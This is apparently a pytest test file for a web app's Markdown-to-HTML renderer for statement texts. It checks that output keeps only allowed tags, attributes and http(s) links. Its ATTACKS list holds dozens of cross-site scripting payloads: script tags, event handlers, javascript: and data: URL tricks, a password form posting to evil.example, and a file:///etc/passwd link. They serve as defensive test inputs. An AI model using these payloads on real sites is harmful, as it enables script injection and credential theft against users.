"""A statement's text carries words, lists, headings and links to web pages, and nothing that could run."""

from html.parser import HTMLParser

import pytest

from markets.core import statement_texts
from markets.core.statement_texts import Piece

ALLOWED = {"p": {"class"}, "em": set(), "strong": set(), "ul": {"class"}, "ol": {"class", "start"}, "li": set()} | {
    "h3": {"class"},
    "h4": {"class"},
    "a": {"class", "href", "rel"},
    "br": set(),
}
#: Each has carried code past some filter: plain and broken elements, schemes in disguise, attributes, other Markdown.
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><input name=password></form>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](http:alert(1))",
    "[x](https://[::1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/onclick=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>",
    "### <script>alert(1)</script>",
    "**<b onclick=alert(1)>**",
    "\\<script>alert(1)\\</script>",
    "a\0<script\0>alert(1)</script\0>",
    "{{figure:<script>alert(1)</script>}}",
    '{{figure:x" onload="alert(1)}}',
    "| a | b |\n|---|---|\n| <script> | x |",
    "\u202ejavascript:alert(1)",
)


class _Elements(HTMLParser):
    """Notes every element with its attributes, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", {}))

    unknown_decl = handle_decl


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.promise("B6")
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_brings_an_element_an_attribute_or_an_address_of_its_own(attack: str) -> None:
    for text in (attack, f"words {attack} words", f"- {attack}", f"### {attack}", f"[{attack}](https://a.example)"):
        for tag, attributes in elements(statement_texts.html(text)):
            assert tag in ALLOWED
            assert set(attributes) <= ALLOWED[tag]
            assert (attributes.get("href") or "https://").startswith(("https://", "http://"))


def test_an_attack_is_shown_as_it_was_typed() -> None:
    assert statement_texts.html("<b>x</b>") == '<p class="govuk-body">&lt;b&gt;x&lt;/b&gt;</p>\n'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain *it* **bold**", '<p class="govuk-body">plain <em>it</em> <strong>bold</strong></p>\n'),
        ("# Big", '<h3 class="govuk-heading-s">Big</h3>\n'),
        ("### Three", '<h3 class="govuk-heading-s">Three</h3>\n'),
        ("#### Four", '<h4 class="govuk-heading-s app-heading-h4">Four</h4>\n'),
        ("###### Six", '<h4 class="govuk-heading-s app-heading-h4">Six</h4>\n'),
        ("- a\n- b", '<ul class="govuk-list govuk-list--bullet">\n<li>a</li>\n<li>b</li>\n</ul>\n'),
        ("3. a", '<ol start="3" class="govuk-list govuk-list--number">\n<li>a</li>\n</ol>\n'),
        (
            "[page](https://a.example/x?y=1 'title')",
            '<p class="govuk-body"><a href="https://a.example/x?y=1" class="govuk-link" '
            'rel="nofollow noopener noreferrer">page</a></p>\n',
        ),
        (r"\*no\* emphasis", '<p class="govuk-body">*no* emphasis</p>\n'),
        ("", ""),
    ],
)
def test_words_lists_headings_and_links_are_drawn(text: str, expected: str) -> None:
    assert statement_texts.html(text) == expected


def test_a_figure_stands_where_its_line_is_and_nowhere_else() -> None:
    text = "Before\n\n{{figure:spend}}\n\nAfter {{figure:spend}}\n  {{figure:f-2}}  \n"

    found = list(statement_texts.pieces(text))

    assert [piece.figure for piece in found] == ["", "spend", "", "f-2"]
    assert found[1] == Piece(figure="spend")
    assert "{{figure:spend}}" in found[2].html
    assert statement_texts.figures(text) == ("spend", "f-2")


def test_a_figure_stands_where_its_line_is_however_lines_end() -> None:
    assert statement_texts.figures("Before\r\n\r\n{{figure:spend}}\r\n\r\nAfter") == ("spend",)


def test_words_are_read_without_figures_marks_and_addresses() -> None:
    text = "## Head\n\nTwo *short*\nlines with a [link](https://a.example).\n\n{{figure:x}}\n\n- item"

    assert statement_texts.words(text) == "Head\nTwo short lines with a link.\nitem"
